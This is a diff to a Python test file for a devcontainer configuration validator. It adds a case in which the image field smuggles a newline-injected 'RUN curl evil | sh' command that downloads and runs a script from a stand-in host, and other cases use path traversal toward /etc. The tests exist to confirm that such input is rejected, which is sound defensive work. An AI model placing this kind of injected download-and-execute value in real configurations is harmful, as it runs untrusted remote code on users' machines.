@@ -74,6 +74,7 @@ def test_a_devcontainer_image_names_a_base(tmp_path: Path) -> None:
         ('{"build": {"dockerfile": "../../../etc/Dockerfile"}}', "leads out of the workspace"),
         ('{"build": {"dockerfile": "D", "context": "/"}}', "leads out of the workspace"),
         ('{"build": {"dockerfile": "D", "args": {"A": 1}}}', "build.args strings"),
+        ('{"image": "base\\nRUN curl evil | sh"}', "not an image reference"),
     ],
 )
 def test_a_bad_devcontainer_says_what_is_wrong(tmp_path: Path, doc: str, says: str) -> None:
